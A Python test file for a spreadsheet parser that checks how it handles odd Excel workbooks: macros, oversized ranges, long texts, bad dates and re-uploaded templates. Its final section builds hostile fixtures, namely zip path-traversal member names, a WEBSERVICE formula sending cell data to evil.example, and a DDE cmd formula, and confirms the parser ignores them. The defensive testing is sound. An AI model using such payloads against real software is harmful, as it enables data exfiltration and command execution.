"""Files that are odd as a whole: macros, sizes, what programs write that nobody asked for."""

from __future__ import annotations

import io
import zipfile

import openpyxl

from data.annotate import annotated
from data.example import FOLDER, plan_2015
from data.reader import parse
from data.template import carried_over, write_workbook
from data.workbook import interpret
from tests.data.conftest import SHA
from tests.data.hostile import parts, sheet, zipped
from tests.workbooks.making import raw, text, texts, with_parts, workbook
from tests.workbooks.odd import odd

MEMBERS = {"Participanten": "Organisatie | Sector\nHuis A | zorg"}
TWO = texts("Organisatie", "Sector") + texts("Huis A", "zorg")
EMPTY_SHEETS = "melding: leeg, en dus niet aangeleverd"
PLAN_SAYS = f"""
    melding Begroting!I7: € 75.507, de regels tellen op tot € 75.505
    melding Begroting!I30: € 570.743, de regels tellen op tot € 570.741
    {EMPTY_SHEETS}: Realisatie, Activiteiten, Deelname, Opbrengsten, Werving, Doelen
"""


def with_macros() -> bytes:
    """An .xlsm as Excel writes it: another content type, and a project of macros."""
    content = workbook(MEMBERS)
    types = zipfile.ZipFile(io.BytesIO(content)).read("[Content_Types].xml").decode()
    old = "openxmlformats-officedocument.spreadsheetml.sheet.main"
    assert old in types
    return with_parts(
        content,
        {
            "[Content_Types].xml": types.replace(old, "ms-excel.sheet.macroEnabled.main"),
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        },
    )


def uploaded_again() -> bytes:
    """A workbook with a fout, annotated by the dashboard, corrected and uploaded again."""
    content = workbook({"Staffel": "Vanaf omzet | Bijdrage\n0 | veel"})
    found = interpret(parse(content), "jaar.xlsx", SHA)
    assert [p.place for p in found.errors] == ["Staffel!B2"]
    made = openpyxl.load_workbook(io.BytesIO(annotated(content, found.problems, {})))
    made["Staffel"]["B2"] = 2500
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def next_year() -> bytes:
    """The template for 2016, prefilled from the plan of 2015."""
    return write_workbook(carried_over(plan_2015.rows(), 2015))


def active_data() -> bytes:
    """The data of 2015 as a workbook."""
    return write_workbook(plan_2015.rows())


odd(
    "macros",
    ".xlsm is read, its macros never are",
    with_macros,
    "schoon",
    filename="jaar.xlsm",
    read={"participants.organisation": "Huis A"},
    in_child=True,
)
odd(
    "200,000 formatted rows without anything in them",
    "somebody coloured a column to the end",
    lambda: raw(
        TWO + '<row s="1" customFormat="1"><c s="0"/><c s="0"/></row>' * 200_000,
        tab="Participanten",
    ),
    "schoon",
    read={"participants.organisation": "Huis A"},
    in_child=True,
)
odd(
    "a dimension that is too small",
    "some programs write A1; the rows below it count",
    lambda: raw(TWO, tab="Participanten", before='<dimension ref="A1"/>'),
    "schoon",
    read={"participants.organisation": "Huis A"},
    in_child=True,
)
odd(
    "a dimension that is far too large",
    "to the last cell of the sheet; nothing is reserved for it",
    lambda: raw(TWO, tab="Participanten", before='<dimension ref="A1:XFD1048576"/>'),
    "schoon",
    read={"participants.organisation": "Huis A"},
    in_child=True,
)
odd(
    "rows without numbers and cells without places",
    "some programs leave out what follows from the order",
    lambda: raw(TWO + "<row/>" + texts("Huis B", "wonen"), tab="Participanten"),
    "schoon",
    read={"participants.organisation": "Huis A | Huis B"},
)
odd(
    "very long texts",
    "the most that Excel holds in a cell; of a name it is only a name",
    {"Opbrengsten": f"Activiteit | Titel\nCafé | {'lang ' * 6553}"},
    "schoon",
    read={"products.title": ("lang " * 6553).strip()},
)
odd(
    "16 kB where a number should be",
    "a page of text was pasted into an amount",
    {"Staffel": f"Vanaf omzet | Bijdrage\n0 | {'blabla ' * 2340}"},
    "fouten",
    "fout Staffel!B2: is geen getal",
)
odd(
    "an annotated workbook, corrected",
    "the list of problems that the dashboard added is not read",
    uploaded_again,
    "schoon",
    read={"scale.contribution": "2500"},
    in_child=True,
)
odd(
    "the real plan of 2015",
    "with the € 2 that do not add up",
    lambda: (FOLDER / "jaarplan-2015.xlsx").read_bytes(),
    "schoon",
    PLAN_SAYS,
    filename="jaarplan-2015.xlsx",
    in_child=True,
)
odd(
    "the prefilled template of next year",
    "as it is downloaded, before anybody typed a figure",
    next_year,
    "schoon",
    EMPTY_SHEETS,
    filename="sjabloon-2016.xlsx",
    in_child=True,
)
odd(
    "the empty template",
    "without a year there is nothing to keep",
    lambda: write_workbook({}),
    "fouten",
    f"""
    fout Toelichting!B1: Jaar ontbreekt
    {EMPTY_SHEETS}
    """,
    filename="sjabloon.xlsx",
)
odd(
    "the active data as a workbook",
    "to correct and upload again",
    active_data,
    "schoon",
    PLAN_SAYS,
    filename="gegevens-2015.xlsx",
)
odd(
    "nothing but a year",
    "an envelope without a letter",
    {"Toelichting": "Jaar | 2015"},
    "fouten",
    "fout: in deze werkmap staan geen gegevens",
)
odd(
    "three empty tabs",
    "as Excel makes a new workbook; once the year is known, nothing is left",
    {"Blad1": "", "Blad2": "", "Blad3": ""},
    "vragen",
    "fout: in deze werkmap staan geen gegevens",
    year=None,
    asks="year -> 2015",
    answers={"year": "2015"},
)
odd(
    "a picture",
    "beside the cells",
    lambda: zipped(
        parts(
            {
                "Toelichting": sheet(f"<row>{text('Jaar')}<c><v>2015</v></c></row>"),
                "Participanten": sheet(TWO),
            }
        )
        | {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(5000)}
    ),
    "schoon",
    read={"participants.organisation": "Huis A"},
)
odd(
    "rich text",
    "a name of which one word is bold is one name",
    lambda: raw(
        texts("Organisatie", "Sector")
        + '<row><c t="inlineStr"><is><r><t>Huis </t></r><r><rPr><b/></rPr><t>A</t></r></is></c>'
        + f"{text('zorg')}</row>",
        tab="Participanten",
    ),
    "schoon",
    read={"participants.organisation": "Huis A"},
)
odd(
    "20,000 rows of attendance",
    "more than a year has ever had",
    lambda: raw(
        texts("Datum", "Activiteit", "Bijeenkomst", "Organisatie", "Aanwezig")
        + "".join(
            f"<row>{text('28-01-2015')}{text('Café')}{text(f'nr {n // 40}')}"
            f"{text(f'Huis {n % 40}')}<c><v>{n % 7}</v></c></row>"
            for n in range(20_000)
        ),
        tab="Deelname",
    ),
    "schoon",
    in_child=True,
)

# --- what looks hostile and is not --------------------------------------------------------------


def cells(*third: str, header: str = "Omzet") -> bytes:
    """Participanten with a third column of which the cells are written as XML."""
    rows = "".join(
        f"<row>{text(f'Huis {n}')}{text('zorg')}{cell}</row>" for n, cell in enumerate(third, 1)
    )
    return raw(texts("Organisatie", "Sector", header) + rows, tab="Participanten")


odd(
    "members with names that climb out of the folder",
    "nothing is ever unpacked to disk, so they are just parts that nobody reads",
    lambda: with_parts(
        workbook(MEMBERS),
        {"../../../../tmp/evil": b"x", "/etc/cron.d/evil": b"x", "C:\\evil": b"x"},
    ),
    "schoon",
    read={"participants.organisation": "Huis A"},
    in_child=True,
)
odd(
    "a formula that would take for ever",
    "its stored value counts; nothing here works out a formula",
    lambda: cells(f"<c><f>{'SUM(A1:XFD1048576)+' * 400}1</f><v>2500000</v></c>"),
    "schoon",
    read={"participants.turnover": "2500000"},
    in_child=True,
)
odd(
    "a formula that fetches something",
    "from the web or from a program: only its stored value counts",
    lambda: cells(
        '<c t="str"><f>WEBSERVICE("http://evil.example/"&amp;A2)</f><v>2500000</v></c>',
        "<c t=\"str\"><f>cmd|'/c calc'!A1</f><v>3000000</v></c>",
    ),
    "schoon",
    read={"participants.turnover": "2500000 | 3000000"},
)
odd(
    "1e400 as a number",
    "more than any number in Excel can be",
    lambda: cells("<c><v>1E400</v></c>", "<c><v>-1E400</v></c>", f"<c><v>{'9' * 400}</v></c>"),
    "fouten",
    """
    fout Participanten!C2: de foutwaarde #NUM!
    fout Participanten!C3: de foutwaarde #NUM!
    fout Participanten!C4: de foutwaarde #NUM!
    """,
    in_child=True,
)
odd(
    "dates that Excel cannot show",
    "day -1 and a day after the year 9999",
    lambda: cells(
        '<c t="d"><v>0001-01-01</v></c>',
        "<c><v>-1</v></c>",
        "<c><v>99999999</v></c>",
        header="Relatiegesprek",
    ),
    "fouten",
    """
    fout Participanten!C2: is geen dag van dit netwerk
    fout Participanten!C3: '-1' is geen datum
    fout Participanten!C4: '99999999' is geen datum
    """,
)
odd(
    "a merged range as large as the sheet",
    "the cell at its corner counts",
    lambda: raw(
        TWO,
        tab="Participanten",
        after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    ),
    "schoon",
    "waarschuwing Participanten!A1:XFD1048576: telt alleen de cel linksboven",
    read={"participants.organisation": "Huis A"},
    in_child=True,
)
odd(
    "a thousand tabs",
    "one of which says something",
    lambda: zipped(
        parts(
            {
                "Toelichting": sheet(f"<row>{text('Jaar')}<c><v>2015</v></c></row>"),
                "Participanten": sheet(TWO),
                **{f"Blad{n}": sheet("") for n in range(1000)},
            }
        )
    ),
    "schoon",
    read={"participants.organisation": "Huis A"},
    in_child=True,
)
